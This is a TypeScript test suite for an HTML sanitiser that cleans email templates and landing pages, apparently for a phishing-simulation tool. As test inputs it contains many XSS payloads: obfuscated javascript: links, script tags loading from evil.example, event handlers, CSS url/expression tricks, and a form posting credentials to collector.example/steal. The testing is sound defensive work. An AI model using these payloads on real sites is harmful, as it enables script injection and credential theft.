import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { htmlToText, sanitizeEmailHtml, sanitizeLandingHtml } from './sanitize.js';

const both = [sanitizeEmailHtml, sanitizeLandingHtml];

/** Nothing in the output may run code or fetch from another host (text content is inert: `<` is escaped there). */
function expectInert(out: string): void {
  expect(out).not.toMatch(/<(script|iframe|object|embed|svg|math|style|link|meta|base|frame|applet|template)\b/i);
  for (const tag of out.match(/<[a-z][^>]*>/gi) ?? []) {
    // The serializer always double-quotes values: names outside quotes are the attributes.
    const names = tag.replace(/"[^"]*"/g, '""');
    expect(names).not.toMatch(/\son[a-z]+\s*=/i);
    expect(names).not.toMatch(/\s(action|formaction)\s*=/i);
    for (const [, name = '', value = ''] of tag.matchAll(/\s([a-z-]+)="([^"]*)"/gi)) {
      if (name === 'href' || name === 'src') expect(value).not.toMatch(/^\s*(javascript|vbscript|data:text)/i);
      if (name === 'src') expect(value).not.toMatch(/^\s*((https?:)?\/\/|\\)/i);
      if (name === 'style') expect(value).not.toMatch(/url\s*\(|expression/i);
    }
  }
}

describe('HTML sanitising of templates and landing pages', () => {
  it('keeps what an email needs: inline styles, tables, links, data-cue marks and placeholders, also in href', () => {
    const html = [
      '<p style="color:#333;font-size:14px">Bonjour {{firstName}} {{lastName}},</p>',
      '<table width="600" cellpadding="0" cellspacing="0" border="0"><tr><td bgcolor="#f4f4f4" valign="top" style="padding:8px">{{service}}</td></tr></table>',
      '<p data-cue="urgency"><strong>Sous 24 h</strong></p>',
      '<a href="{{link}}" data-cue="link" target="_blank">Ouvrir</a>',
      '<a href="mailto:{{reportAddress}}?subject=Signalement">Signaler</a>',
      '<a href="https://www.example.org/aide?u={{email}}">Aide</a>',
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo" width="20"><img src="/static/logo.png" alt="">',
      '{{trackingImage}}',
    ].join('');
    const out = sanitizeEmailHtml(html);
    for (const kept of [
      'style="color:#333;font-size:14px"',
      'Bonjour {{firstName}} {{lastName}},',
      '<table width="600" cellpadding="0" cellspacing="0" border="0">',
      '<td bgcolor="#f4f4f4" valign="top" style="padding:8px">{{service}}</td>',
      '<p data-cue="urgency">',
      'href="{{link}}"',
      'data-cue="link"',
      'href="mailto:{{reportAddress}}?subject=Signalement"',
      'href="https://www.example.org/aide?u={{email}}"',
      'src="data:image/png;base64,iVBORw0KGgo="',
      'src="/static/logo.png"',
      '{{trackingImage}}',
    ]) {
      expect(out).toContain(kept);
    }
    expect(out).toContain('rel="noopener noreferrer"');
  });

  it('drops scripts, frames, plug-ins and event handlers, with their content', () => {
    for (const clean of both) {
      const out = clean(
        '<p onclick="steal()" onmouseover=x>Texte</p><script>alert(document.cookie)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>' +
          '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x"><noscript>ns</noscript>' +
          '<svg onload="alert(1)"><script>alert(2)</script></svg><math><mtext>m</mtext></math><template><p>t</p></template>' +
          '<img src=x onerror=alert(1)><body onload="x()">b</body><details open ontoggle="alert(1)">d</details>',
      );
      expectInert(out);
      expect(out).toContain('Texte');
      expect(out).not.toContain('alert');
      expect(out).not.toContain('ns');
    }
  });

  it('removes javascript:, vbscript: and data: links, however they are disguised', () => {
    const tricks = [
      'javascript:alert(1)',
      ' JaVaScRiPt:alert(1)',
      'jav&#x09;ascript:alert(1)',
      '&#106;avascript:alert(1)',
      'java\nscript:alert(1)',
      '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
      'vbscript:msgbox(1)',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    ];
    for (const clean of both) {
      for (const href of tricks) {
        const out = clean(`<a href="${href}">lien</a>`);
        expect(out, href).toBe('<a>lien</a>');
      }
    }
  });

  it('refuses images from other hosts: http(s), protocol-relative, backslash tricks, SVG data', () => {
    for (const src of [
      'https://tracker.example/p.gif',
      'http://tracker.example/p.gif',
      '//tracker.example/p.gif',
      '\\\\tracker.example\\p.gif',
      '/\\tracker.example/p.gif',
      ' https://tracker.example/p.gif',
      'ftp://tracker.example/p.gif',
      'data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=',
      'data:text/html,<script>alert(1)</script>',
    ]) {
      const out = sanitizeEmailHtml(`<p>i</p><img src="${src}" alt="x">`);
      expect(out, src).toBe('<p>i</p>');
    }
  });

  it('drops styles that fetch or run something, including CSS escapes and comments', () => {
    for (const style of [
      'background:url(https://tracker.example/p.gif)',
      'background-image: URL("//tracker.example/p.gif")',
      'background: u\\72l(https://tracker.example/p.gif)',
      'background: ur/**/l(https://tracker.example/p.gif)',
      'width: expression(alert(1))',
      'behavior: url(x.htc)',
      '-moz-binding: url(x.xml#xss)',
      'background-image: image-set("https://tracker.example/p.gif" 1x)',
    ]) {
      const out = sanitizeEmailHtml(`<p style='${style}'>x</p>`);
      expect(out, style).toBe('<p>x</p>');
    }
    expect(sanitizeEmailHtml('<p style="color: red">x</p>')).toBe('<p style="color:red">x</p>');
    expect(sanitizeEmailHtml('<style>@import url(https://x.example/a.css)</style><p>x</p>')).toBe('<p>x</p>');
  });

  it('keeps a form on landing pages but never its action, nor forms in emails', () => {
    const form =
      '<form action="https://collector.example/steal" method="post"><label for="id">Identifiant</label>' +
      '<input id="id" name="identifier" type="text" autocomplete="off" required><input name="password" type="password">' +
      '<button type="submit" formaction="https://collector.example">Connexion</button></form>';
    const page = sanitizeLandingHtml(`<main style="padding:8px">${form}</main>`);
    expectInert(page);
    expect(page).toContain('<form method="post">');
    expect(page).toContain('<input id="id" name="identifier" type="text" autocomplete="off" required />');
    expect(page).toContain('<input name="password" type="password" />');
    expect(page).toContain('<button type="submit">Connexion</button>');
    expect(page).toContain('<main style="padding:8px">');
    expect(sanitizeLandingHtml('<form method="dialog"><button>x</button></form>')).toBe('<form method="post"><button>x</button></form>');
    const email = sanitizeEmailHtml(form);
    expect(email).not.toMatch(/<(form|input|button)/);
    expect(email).toContain('Identifiant');
  });

  it('drops page-level tags that would redirect or restyle: base, meta refresh, link, title', () => {
    const out = sanitizeLandingHtml(
      '<html><head><title>Titre</title><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">' +
        '<link rel="stylesheet" href="https://evil.example/s.css"></head><body><p>Corps</p></body></html>',
    );
    expect(out).toBe('<p>Corps</p>');
  });

  it('keeps only data-cue among data attributes, and escapes what would break out of an attribute', () => {
    expect(sanitizeEmailHtml('<span data-cue="sender" data-foo="1" data-bind="x">s</span>')).toBe('<span data-cue="sender">s</span>');
    const out = sanitizeEmailHtml('<p title=\'a" onmouseover="alert(1)\'>x</p>');
    expectInert(out);
  });

  it('never lets an arbitrary input produce active content (property test)', () => {
    const pieces = fc.constantFrom(
      '<script>',
      '</script>',
      '<img src=',
      '"https://e.example/x"',
      ' onerror=alert(1)',
      '<a href="',
      'javascript:',
      '{{link}}',
      '">',
      '<svg>',
      '<iframe>',
      '<style>',
      '</style>',
      'url(',
      '<!--',
      '-->',
      '<form action="x">',
      "'",
      '<',
      '>',
      'text',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
        for (const clean of both) expectInert(clean(parts.join('')));
      }),
      { numRuns: 500 },
    );
  });

  it('turns HTML into plain text', () => {
    expect(htmlToText('<p>Bonjour <b>{{firstName}}</b></p><script>x()</script>\n<p>fin</p>')).toBe('Bonjour {{firstName}} fin');
  });
});
